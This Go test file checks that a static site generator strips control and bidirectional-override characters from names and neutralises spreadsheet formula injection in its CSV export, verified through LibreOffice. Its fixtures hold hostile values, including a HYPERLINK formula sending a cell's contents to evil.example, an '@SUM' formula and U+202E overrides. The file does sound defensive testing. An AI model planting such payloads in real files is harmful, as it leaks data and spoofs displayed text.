package build_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/BurntSushi/toml"
	"golang.org/x/text/unicode/norm"

	"github.com/loa-vn/loa/generator/build"
	"github.com/loa-vn/loa/generator/diag"
	"github.com/loa-vn/loa/generator/internal/htmlq"
)

// hostile is a site whose names are attacks: formulas for spreadsheets,
// control characters, and bidirectional formatting characters that would
// turn around the text after a name, raw in files, as TOML escapes and as
// Markdown character references.
const hostile = "testdata/hostile"

// bad reports whether r may not appear in any output file: a control
// character other than tab, LF and CR, or a bidirectional formatting
// character (the test's own reading of Unicode, not package ctrlchar's).
func bad(r rune) bool {
	return (unicode.IsControl(r) && r != '\t' && r != '\n' && r != '\r') || unicode.Is(unicode.Bidi_Control, r)
}

// cleaned is a name as the site must show it: NFC, without the characters
// bad forbids, a CR a line break.
func cleaned(s string) string {
	s = strings.ReplaceAll(strings.ReplaceAll(norm.NFC.String(s), "\r\n", "\n"), "\r", "\n")
	return strings.Map(func(r rune) rune {
		if bad(r) {
			return -1
		}
		return r
	}, s)
}

func buildHostile(t *testing.T) (string, *diag.List) {
	t.Helper()
	out := filepath.Join(t.TempDir(), "public")
	var diags diag.List
	if _, err := build.Site(build.Options{Site: hostile, Out: out}, &diags); err != nil {
		t.Fatalf("build: %v\n%v", err, diags.Err())
	}
	return out, &diags
}

// TestHostileNamesReachNoOutput: no file of the output holds a control or
// direction character, whatever the site wrote; each one removed is a
// warning at its position.
func TestHostileNamesReachNoOutput(t *testing.T) {
	out, diags := buildHostile(t)
	n := 0
	err := filepath.WalkDir(out, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(out, p)
		if bytes.HasPrefix(b, []byte("\x89PNG\r\n\x1a\n")) && strings.HasSuffix(p, ".png") {
			return nil // a PNG image: binary
		}
		n++
		if !utf8.Valid(b) {
			t.Errorf("%s is not UTF-8 text", rel)
			return nil
		}
		for i, r := range string(b) {
			if bad(r) {
				t.Errorf("%s holds %U at byte %d: %q", rel, r, i, b[max(0, i-30):min(len(b), i+30)])
				break
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if n < 30 {
		t.Fatalf("only %d text files in the output", n)
	}

	// Warnings at the characters' positions: raw ones at their column.
	var warns []string
	for _, w := range diags.Warnings() {
		warns = append(warns, w.String())
	}
	all := strings.Join(warns, "\n")
	for _, want := range []string{
		"content/units/thon.toml:1:18: warning: removed U+202E RIGHT-TO-LEFT OVERRIDE",
		"content/units/thon.toml:22:8: warning: removed U+0000",
		"content/units/thon.toml:42:8: warning: removed U+202E",
		"content/reports/2024-02-02.toml:2:29: warning: removed U+202E",
		"content/_index.md:1:7: warning: removed U+202E",
		"content/_index.md:1:20: warning: removed U+0007",
		"content/gioi-thieu.md:5:9: warning: removed U+0000",
		"content/directives/thong-bao.md:5:11: warning: removed U+202E",
		"site.toml:1:9: warning: removed U+202E",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("no warning %q in:\n%s", want, all)
		}
	}
	// A Markdown character reference that writes one is left out, with a
	// warning on its line.
	if !regexp.MustCompile(`content/_index.md:1:\d+: warning: the character reference &#x202E; writes U\+202E`).MatchString(all) {
		t.Errorf("no warning for &#x202E; in content/_index.md:\n%s", all)
	}

	// The unit's page and the progress table show the name without them.
	var units struct {
		Unit []struct{ ID, Name, Short string }
	}
	if _, err := toml.DecodeFile(filepath.Join(hostile, "content/units/thon.toml"), &units); err != nil {
		t.Fatal(err)
	}
	progress := readPage(t, out, "tien-do/index.html")
	for _, u := range units.Unit {
		want := strings.Join(strings.Fields(cleaned(u.Name)), " ")
		h1 := htmlq.Text(htmlq.First(readPage(t, out, "don-vi/"+u.ID+"/index.html"), htmlq.Tag("h1")))
		if h1 != want {
			t.Errorf("%s: h1 %q, want %q", u.ID, h1, want)
		}
		if u.Short != "" { // the table shows the short name
			want = strings.Join(strings.Fields(cleaned(u.Short)), " ")
		}
		row := htmlq.First(progress, htmlq.AttrIs("data-unit", u.ID))
		if row == nil || !strings.Contains(strings.Join(strings.Fields(htmlq.Text(row)), " "), want) {
			t.Errorf("%s: the progress row lacks %q", u.ID, want)
		}
	}
}

// TestHostileNamesInOpenData: tien-do.csv, read back with encoding/csv,
// has every name as text ("'" before the ones a spreadsheet would run),
// and tien-do.json has them as they are (without the removed characters).
func TestHostileNamesInOpenData(t *testing.T) {
	out, _ := buildHostile(t)
	var units struct {
		Unit []struct{ ID, Name string }
	}
	if _, err := toml.DecodeFile(filepath.Join(hostile, "content/units/thon.toml"), &units); err != nil {
		t.Fatal(err)
	}
	names := map[string]string{}
	for _, u := range units.Unit {
		names[u.ID] = cleaned(u.Name)
	}

	b, err := os.ReadFile(filepath.Join(out, "du-lieu/tien-do.csv"))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+2*len(names) {
		t.Fatalf("%d rows", len(rows))
	}
	for _, row := range rows[1:] {
		name, ok := names[row[1]]
		if !ok {
			t.Fatalf("row for no unit: %q", row)
		}
		want := name
		if strings.ContainsAny(name[:1], "=+-@\t\r\n'") {
			want = "'" + name
		}
		if row[4] != want {
			t.Errorf("%s: cell %q, want %q", row[1], row[4], want)
		}
	}
	for id, want := range map[string]string{ // the rule, spelled out
		"thon-cong-thuc": `'=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")`,
		"thon-tong":      "'@SUM(1)",
		"thon-tru":       "'-1+1",
		"thon-nul":       "ThônMột",
		"thon-bel":       "ThônHai[31m",
		"thon-cr":        "'\nThôn\nBa",
		"thon-tab":       "'\tThôn Tư",
		"thon-bidi":      "Thôn Năm Sáu Bảy Tám Chín Mười",
	} {
		found := false
		for _, row := range rows[1:] {
			if row[1] == id {
				found = true
				if row[4] != want {
					t.Errorf("%s: cell %q, want %q", id, row[4], want)
				}
			}
		}
		if !found {
			t.Errorf("no row for %s", id)
		}
	}

	var data struct {
		Units []struct{ ID, Name string }
	}
	j, _ := os.ReadFile(filepath.Join(out, "du-lieu/tien-do.json"))
	if err := json.Unmarshal(j, &data); err != nil {
		t.Fatal(err)
	}
	// Nor written as JSON escapes, which a reader decodes into them.
	if m := regexp.MustCompile(`\\u(00[01][0-9a-fA-F]|007[fF]|008[0-9a-fA-F]|009[0-9a-fA-F]|061[cC]|200[eEfF]|202[a-eA-E]|206[6-9])`).Find(j); m != nil {
		t.Errorf("tien-do.json escapes a forbidden character: %s", m)
	}
	for _, u := range data.Units {
		if u.Name != names[u.ID] {
			t.Errorf("json %s: name %q, want %q", u.ID, u.Name, names[u.ID])
		}
	}
}

// TestHostileCSVInLibreOffice: LibreOffice opens tien-do.csv with no
// formula in any cell, as a spreadsheet user would open it. (The same file written the old way, a cell
// starting with "=", makes one: the check can fail.)
func TestHostileCSVInLibreOffice(t *testing.T) {
	// .ci/run installs LibreOffice and names it in LOA_SOFFICE: there the
	// check must run. Elsewhere it runs where LibreOffice is installed.
	soffice := os.Getenv("LOA_SOFFICE")
	if soffice == "" {
		soffice, _ = exec.LookPath("soffice")
	}
	if soffice == "" {
		t.Skip("LibreOffice (soffice) is not installed: .ci/run installs it and sets LOA_SOFFICE")
	}
	out, _ := buildHostile(t)
	dir := t.TempDir()
	csvFile, _ := os.ReadFile(filepath.Join(out, "du-lieu/tien-do.csv"))
	os.WriteFile(filepath.Join(dir, "built.csv"), csvFile, 0o644)
	os.WriteFile(filepath.Join(dir, "old.csv"), []byte("name,n\r\n\"=HYPERLINK(\"\"https://evil.example/\"\")\",1\r\n"), 0o644)
	cmd := exec.Command(soffice, "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--convert-to", "xlsx", "--outdir", dir, filepath.Join(dir, "built.csv"), filepath.Join(dir, "old.csv"))
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, b)
	}
	formulas := func(name string) int {
		z, err := zip.OpenReader(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		defer z.Close()
		f, err := z.Open("xl/worksheets/sheet1.xml")
		if err != nil {
			t.Fatal(err)
		}
		sheet, _ := io.ReadAll(f)
		return bytes.Count(sheet, []byte("<f"))
	}
	if n := formulas("old.xlsx"); n != 1 {
		t.Fatalf("the unprotected file made %d formulas, want 1: the check does not see them", n)
	}
	if n := formulas("built.xlsx"); n != 0 {
		t.Errorf("tien-do.csv made %d formulas in LibreOffice", n)
	}
}
